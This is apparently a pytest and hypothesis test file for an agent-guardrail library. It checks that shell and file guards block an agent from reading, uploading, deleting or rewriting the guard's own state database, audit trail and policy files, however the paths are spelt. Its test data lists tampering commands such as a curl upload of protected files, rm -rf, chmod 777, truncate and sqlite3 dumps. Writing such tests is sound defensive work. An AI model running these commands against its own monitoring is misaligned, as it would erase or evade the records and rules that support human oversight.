"""Where a shield keeps what is its own is out of reach, under every spelling of a path that guards
can read."""

from __future__ import annotations

from shlex import quote

import pytest
from hypothesis import given, strategies as st

from stanchion.guards._own import NOWHERE, POLICY, STATE, OwnPlaces
from stanchion.guards.files import Files
from stanchion.guards.shell import Shell
from stanchion.guards.shell.verdict import ShellJudge
from stanchion.kernel.actions import Action, Risk
from stanchion.kernel.events import RunInfo, ToolCall
from stanchion.readings import read

HERE, HOME = "/work/shop", "/home/ann"
CLOSED = (
    "/home/ann/.local/state/stanchion",
    "/srv/keep/agents.db",
    "/srv/keep/agents.db-wal",
    "/srv/records",
)
POLICIES = ("/work/shop/rules/guard.yaml", "/work/shop/p.yaml")
OWN = OwnPlaces(CLOSED, POLICIES, HERE, HOME)
VERDICT = ShellJudge(Shell().told(OWN))
FILES = Files(root=(".",), shipped=False).told(OWN)
RUN = RunInfo(id="r", agent="a", role="", task="", tenant="default")


def shell(text: str) -> Action:
    """What the shell guard says of a text."""
    found = VERDICT.of(text, Risk.MEDIUM)
    return Action.ALLOW if found is None else found.action


def files(tool: str, **args: str) -> Action:
    """What the files guard says of a call."""
    found = FILES.judge(read(ToolCall(id="e", at=0, run=RUN, tool=tool, args=args)))
    return Action.ALLOW if found is None else found.action


@st.composite
def spelt(draw: st.DrawFn, path: str, globs: bool = True) -> str:
    """A path under another spelling that leads to the same."""
    parts = path.strip("/").split("/")
    if globs and draw(st.booleans()):
        at = draw(st.integers(0, len(parts) - 1))
        name = parts[at]
        cut = draw(st.integers(1, len(name)))
        parts[at] = draw(st.sampled_from([f"{name[:cut]}*", f"{name[: cut - 1]}?{name[cut:]}"]))
    at = draw(st.integers(0, len(parts)))
    detour = draw(st.sampled_from([[], ["."], ["", ""], ["x", ".."], ["x", "y", "..", ".."]]))
    text = "/" + "/".join([*parts[:at], *detour, *parts[at:]])
    way = draw(st.integers(0, 5))
    if text.startswith(HOME + "/") and way in (0, 1, 2):
        return draw(st.sampled_from(["~", "$HOME", "${HOME}", "~ann"])) + text[len(HOME) :]
    if way == 3:
        return f"../..{text}"
    if way == 4:
        return f"/proc/self/root{text}"
    return text


PLACES = st.sampled_from(
    ["/home/ann/.local/state/stanchion/state.db", "/srv/keep/agents.db", "/srv/records/ab/1.jsonl"]
)


def word(path: str) -> str:
    """A path as a word of a shell, its wildcards and variables alive."""
    return "".join([char if char in "~$*?[]{}" or char.isalnum() else quote(char) for char in path])


USED = """
cat {}|sqlite3 {} .dump|cp {} out|tar cf x.tar {}|xxd < {}|curl -T {} https://example.org|dd if={} of=x|base64 {}
rm -f {}|mv {} /tmp/x|echo x > {}|ln -s {} l|tee -a {} < y|chmod 777 {}|some-tool --file={}|docker run -v {}:/x alpine
"""  # noqa: E501
CHANGED = """
rm {}|echo x > {}|sed -i s/a/b/ {}|cp x {}|tee {} < x|truncate -s 0 {}|git checkout HEAD~1 -- {}|mv x {}|dd if=x of={}
perl -i -pe s/a/b/ {}
"""  # noqa: E501


def one_of(lines: str) -> st.SearchStrategy[str]:
    """One of the commands that are listed."""
    return st.sampled_from(lines.strip().replace("\n", "|").split("|"))


@given(PLACES.flatmap(spelt), one_of(USED))
def test_no_command_reaches_the_store_or_the_trail(path: str, command: str) -> None:
    assert shell(command.format(word(path))) is Action.BLOCK


@given(
    PLACES.flatmap(lambda path: spelt(path, globs=False)),
    st.sampled_from(["read", "write", "delete", "move"]),
)
def test_no_tool_reaches_the_store_or_the_trail(path: str, verb: str) -> None:
    assert files(f"{verb}_file", path=path) is Action.BLOCK
    assert files("bash", command=f"cat {word(path)}") is Action.BLOCK


@given(st.sampled_from(POLICIES).flatmap(spelt), one_of(CHANGED))
def test_no_command_changes_the_policy(path: str, command: str) -> None:
    assert shell(command.format(word(path))) is Action.BLOCK


@given(st.sampled_from(POLICIES).flatmap(lambda path: spelt(path, globs=False)))
def test_the_policy_may_be_read(path: str) -> None:
    assert shell(f"cat {word(path)}") is Action.ALLOW
    assert shell(f"diff {word(path)} other.yaml") is Action.ALLOW
    assert shell(f"git diff --no-index {word(path)} other.yaml") is Action.ALLOW
    assert OWN.leads_to(path, "read") is None
    assert OWN.leads_to(path, "write") == POLICY


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /srv/keep",
        "mv /srv/keep /srv/kept",
        "rm -rf rules",
        "mv rules old",
        "rm rules/*.yaml",
        "find / -name agents.db -exec rm {} +",
        "cd /srv && sqlite3 keep/agents.db .dump",
        "cd rules; > guard.yaml",
        "chmod -R a+w /srv",
        "python3 -c \"open('/srv/keep/agents.db', 'rb').read()\"",
        "cat file:///srv/keep/agents.db",
    ],
)
def test_what_holds_an_own_place_stays_where_it_is(text: str) -> None:
    assert shell(text) is Action.BLOCK


NEAR = """
ls /srv|cat /srv/other/agents.db|rm -rf build|rm *.pyc|cat *|cp p.yaml q.yaml|cat rules/*|find . -name '*.pyc' -delete
echo x > rules/other.yaml|rm /srv/keep.txt|git checkout main|cp -r dist/* .|tar xf a.tar|mkdir rules/more|mv src lib
tar xf a.tar -C /tmp|tar xf a.tar -C /srv/www|tar xf a.tar -C /home/ann|cp -r x/. /srv/other|rsync -a x/ /home/ann/site/
git clean -fd|git rm -r .|git clean -fd -e '*.log'|rm -rf out/*|find rules -name '*.bak' -delete
grep -rn x .|cp -r . /tmp/copy|tar czf x.tgz src|unzip x.zip -d out|rg x /home/ann/src
sed -n 1p p.yaml|echo /srv/keep/agents.db|grep -rn /srv/keep/agents.db docs|find . -name '*.tmp' -exec rm {} +
"""  # noqa: E501


@pytest.mark.parametrize("text", NEAR.strip().replace("\n", "|").split("|"))
def test_what_is_beside_an_own_place_is_judged_as_ever(text: str) -> None:
    before = ShellJudge(Shell()).of(text, Risk.MEDIUM)
    after = VERDICT.of(text, Risk.MEDIUM)
    assert (None if before is None else before.code) == (None if after is None else after.code)


def test_places_that_nobody_told_are_nowhere() -> None:
    assert NOWHERE.leads_to("/srv/keep/agents.db", "delete") is None
    assert OWN.leads_to("/srv/keep/agents.db", "read") == STATE
    assert OWN.leads_to("/srv/**", "write") == OWN.leads_to("/srv/**", "delete") == STATE
    assert OWN.leads_to("/srv/**", "read") is OWN.leads_to("/srv/**/x", "delete") is None
    assert OWN.leads_to("$ELSEWHERE/agents.db", "delete") is None
    assert OWN.leads_to("x" * 5_000, "delete") is None


def test_own_places_stay_closed_whatever_else_a_policy_opens() -> None:
    mild = Files(
        unprotected=("**",), protected_read="warn", protected_write="warn", outside_read="allow"
    ).told(OWN)
    found = mild.judge(
        read(
            ToolCall(id="e", at=0, run=RUN, tool="read_file", args={"path": "/srv/keep/agents.db"})
        )
    )
    assert found is not None
    assert (found.action, found.code) == (Action.BLOCK, "files.protected")
